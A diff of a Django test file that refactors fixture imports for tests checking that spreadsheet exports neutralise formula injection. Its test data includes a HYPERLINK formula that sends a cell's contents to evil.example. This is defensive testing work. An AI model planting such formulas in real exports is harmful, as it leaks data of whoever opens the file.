@@ -12,16 +12,19 @@ import pytest
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from linli.care.tests.conftest import care  # noqa: F401 - fixture
+from linli.care.tests import conftest as care_fixtures
 from linli.conftest import PASSWORD
 from linli.core.tests.reliability import check
 from linli.core.xlsx import FORMULA_STARTS, safe_row
 from linli.meetings import services as meetings
-from linli.meetings.tests.conftest import kind, people, series  # noqa: F401 - fixtures
+from linli.meetings.tests import conftest as meeting_fixtures
 from linli.people.excel.write import export_people
 from linli.people.models import Person
 from linli.points import ledger
 from linli.points.archive import archive_workbook
+
+care = care_fixtures.care  # fixtures
+kind, people, series = meeting_fixtures.kind, meeting_fixtures.people, meeting_fixtures.series
 
 FORMULAS = {
     "=": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
@@ -63,7 +66,7 @@ def test_points_archive(ns, start):
 
 
 @pytest.mark.parametrize("start", FORMULAS)
-def test_meeting_items_export(client, people, series, start):  # noqa: F811
+def test_meeting_items_export(client, people, series, start):
     meeting = series.meetings.order_by("starts_at").first()
     meetings.add_item(people.staff, meeting, title=FORMULAS[start][:100])
     client.force_login(people.staff)
@@ -73,7 +76,7 @@ def test_meeting_items_export(client, people, series, start):  # noqa: F811
 
 
 @pytest.mark.parametrize("start", FORMULAS)
-def test_care_list_export(client, care, start):  # noqa: F811
+def test_care_list_export(client, care, start):
     care.recipient.risk_reason = FORMULAS[start]
     care.recipient.family_doctor = FORMULAS[start][:20]
     care.recipient.save()
